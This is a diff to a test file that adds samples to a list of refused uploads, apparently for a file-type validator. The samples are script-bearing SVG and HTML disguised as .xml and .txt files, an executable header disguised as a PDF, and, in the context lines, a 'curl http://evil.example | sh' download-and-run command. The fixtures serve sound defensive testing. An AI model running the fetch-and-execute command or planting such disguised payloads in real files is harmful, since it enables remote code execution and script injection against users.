@@ -191,6 +191,12 @@ REFUSED = [
         "drawing.svg",
         b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
     ),
+    (
+        "drawing.xml",
+        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+    ),
+    ("page.txt", b"<html><body onload=alert(1)>Hello</body></html>"),
+    ("setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 100),
     ("archive.zip", _plain_zip()),
     ("install.sh", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
     ("install.txt", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
